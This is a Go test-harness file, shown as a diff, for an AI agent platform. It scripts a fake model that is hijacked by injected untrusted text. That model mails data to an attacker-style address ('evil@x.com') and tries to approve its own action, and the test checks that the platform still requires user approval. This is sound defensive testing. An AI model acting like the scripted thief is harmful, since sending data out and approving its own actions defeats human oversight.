@@ -1,0 +1,224 @@
+package main
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/countersign-run/countersign/scripts/world"
+	"github.com/countersign-run/countersign/shared/model/fakegemini"
+)
+
+const maxModelCalls = 3 // the default of MAX_MODEL_CALLS
+
+// answer runs a case of model:response: the model answers what the case says, whatever it is told then.
+func answer(s *stage) (got, error) {
+	turn, forever, err := s.turn()
+	if err != nil {
+		return got{}, err
+	}
+	if err := s.open(s.reading("look_up", "nothing yet")); err != nil {
+		return got{}, err
+	}
+	claim := ""
+	if turn.Text != "" && len(turn.Calls) > 0 {
+		claim = turn.Text // and it claims the same when it is told otherwise
+	}
+	run, err := s.ask(s.as, "Please do it.", func(r fakegemini.Request) fakegemini.Turn {
+		if len(r.Responses()) > 0 && !forever {
+			return fakegemini.Turn{Text: "That is what came of it. " + claim}
+		}
+		return turn
+	})
+	if err != nil {
+		return got{}, err
+	}
+	g := gotOf(run)
+	if n := len(s.w.Gemini.Requests()); turn.Status == 0 && n > maxModelCalls { // a failure may be tried again
+		err = fmt.Errorf("the model was asked %d times", n)
+	}
+	if n := s.effects(); n != 0 {
+		err = errors.Join(err, fmt.Errorf("%d effects", n))
+	}
+	if turn.Thought != "" && strings.Contains(string(run.Body), turn.Thought) {
+		err = errors.Join(err, errors.New("the model's thought is in the answer"))
+	}
+	if claim != "" && strings.HasSuffix(strings.TrimSpace(run.Summary), strings.TrimSpace(claim)) {
+		err = errors.Join(err, fmt.Errorf("the summary leaves the claim standing: %q", run.Summary))
+	}
+	if g.class == "none" && run.Status == "completed" {
+		g.decision = "completed"
+	}
+	return g, err
+}
+
+// turn is the answer of the model that the case describes; forever, it is given again and again.
+func (s *stage) turn() (t fakegemini.Turn, forever bool, err error) {
+	for name := range s.c.Input {
+		v, ok, err := s.take(name)
+		if err != nil {
+			return t, false, err
+		}
+		if !ok {
+			continue
+		}
+		known, err := describe(&t, name, v)
+		if err != nil {
+			return t, false, err
+		}
+		if name == "loop" {
+			known, forever = true, true
+			t.Calls = []fakegemini.Call{{Name: "look_up", Args: map[string]any{}}}
+		}
+		if !known {
+			return t, false, unknown("the model's %s", name)
+		}
+	}
+	return t, forever, nil
+}
+
+// describe sets one part of the turn.
+func describe(t *fakegemini.Turn, name string, v any) (known bool, err error) {
+	spec, _ := v.(map[string]any)
+	switch name {
+	case "as":
+	case "text":
+		t.Text = textOf(v)
+	case "thought":
+		t.Thought = textOf(v)
+	case "finishReason":
+		t.Finish = textOf(v)
+	case "blockReason":
+		t.Block = textOf(v)
+	case "promptFeedback":
+		t.Block = textOf(spec["blockReason"])
+	case "raw":
+		t.Body = textOf(v)
+	case "candidates":
+		t.Body = jsonOf(map[string]any{"candidates": v})
+	case "parts":
+		if list, ok := v.([]any); ok && len(list) > 0 {
+			t.Body = jsonOf(map[string]any{"candidates": []any{map[string]any{"content": map[string]any{"role": "model", "parts": v}, "finishReason": "STOP"}}})
+		}
+	case "http":
+		t.Status, err = number(v)
+	case "retryAfter":
+		t.Header = http.Header{"Retry-After": {textOf(v)}}
+	case "hangup", "reset":
+		t.Hangup = true
+	case "hang", "timeout":
+		t.Delay = time.Hour
+	case "functionCall":
+		t.Calls = append(t.Calls, callOf(spec))
+	case "functionCalls":
+		err = describeCalls(t, v)
+	default:
+		return name == "loop", nil
+	}
+	return true, err
+}
+
+func describeCalls(t *fakegemini.Turn, v any) error {
+	if list, ok := v.([]any); ok {
+		for _, one := range list {
+			spec, _ := one.(map[string]any)
+			t.Calls = append(t.Calls, callOf(spec))
+		}
+		return nil
+	}
+	n, err := number(v)
+	for i := range n {
+		t.Calls = append(t.Calls, fakegemini.Call{Name: "gmail_send", Args: world.Mail("a@example.com", fmt.Sprint(i), "b")})
+	}
+	return err
+}
+
+func callOf(spec map[string]any) fakegemini.Call {
+	c := fakegemini.Call{Name: textOf(spec["name"]), ID: textOf(spec["id"])}
+	if args, ok := spec["args"]; ok && args != nil {
+		c.Args = json.RawMessage(jsonOf(args))
+	}
+	return c
+}
+
+// noName are characters that no tool's name has.
+var noName = regexp.MustCompile(`[^a-z0-9]+`)
+
+var addresses = regexp.MustCompile(`[\w.+-]+@[\w-]+(\.[\w-]+)+`)
+
+// hijack runs a case of run:hijacked_model: an untrusted text comes to the model the way that the case says, and the
+// model does all that it can to obey. It may write mails to whomever it likes; they wait for the user, with the true
+// recipients.
+func hijack(s *stage) (got, error) {
+	v, _, e1 := s.take("untrusted")
+	obeys, e2 := s.takeText("model")
+	spec, _ := v.(map[string]any)
+	source, text := textOf(spec["source"]), textOf(spec["text"])
+	if err := errors.Join(e1, e2); err != nil || !strings.HasPrefix(obeys, "obeys") {
+		return got{}, errors.Join(err, unknown("a model that %s", obeys))
+	}
+	name, fromTool := strings.CutPrefix(source, "tool_output:")
+	if name = strings.Trim(noName.ReplaceAllString(strings.ToLower(name), "_"), "_"); name == "" {
+		name = "look_up"
+	}
+	if err := s.open(s.reading(name, text)); err != nil {
+		return got{}, err
+	}
+	s.private[text] = true
+	to := append(addresses.FindAllString(text, -1), "evil@x.com")[0]
+	ask := map[string]any{"prompt": "What is new?"}
+	switch {
+	case source == "thread_history":
+		first, err := s.ask(s.as, "Remember this.", world.Says(text))
+		if err != nil {
+			return got{}, err
+		}
+		ask["threadId"] = first.ThreadID
+	case source == "page_state", source == "prompt":
+		ask["prompt"] = "The page says:\n" + text
+	default:
+		fromTool = true // whatever it is, the model has read it
+	}
+	s.w.SetBrain(thief(name, fromTool, world.Mail(to, "as you wish", text)))
+	run, err := s.call(s.as, "POST", "/api/agent/run", jsonOf(ask))
+	if err != nil {
+		return got{}, err
+	}
+	return s.caught(run, to)
+}
+
+// thief looks where the text is, and then mails; what it is told about approvals it answers with more of the same.
+func thief(name string, looks bool, mail any) fakegemini.Brain {
+	return func(r fakegemini.Request) fakegemini.Turn {
+		if looks && len(r.Responses()) == 0 {
+			return fakegemini.Turn{Calls: []fakegemini.Call{{Name: name, Args: map[string]any{}}}}
+		}
+		return fakegemini.Turn{Calls: []fakegemini.Call{{Name: "gmail_send", Args: mail}, {Name: "approvals_resolve", Args: map[string]any{"decision": "approve_once"}}}}
+	}
+}
+
+// caught holds the run of a model that was taken over to what it may do: ask.
+func (s *stage) caught(run world.Answer, to string) (got, error) {
+	g := gotOf(run)
+	if len(run.Approvals) != 1 {
+		return g, fmt.Errorf("%d approvals wait", len(run.Approvals))
+	}
+	g.class, g.decision = "none", "require_approval" // the model's other call was refused, as it must be
+	var args struct{ To []string }
+	err := json.Unmarshal(run.Approvals[0].Args, &args)
+	if len(args.To) != 1 || args.To[0] != to {
+		err = errors.Join(err, fmt.Errorf("the approval shows %v, and it goes to %s", args.To, to))
+	}
+	if err := errors.Join(err, s.deliver(), s.sweep()); err != nil {
+		return g, err
+	}
+	entries, err := s.allowlist()
+	if n := s.effects(); n != 0 || len(entries) != 0 {
+		err = errors.Join(err, fmt.Errorf("%d effects, %d entries on the allowlist", n, len(entries)))
+	}
+	return g, err
+}
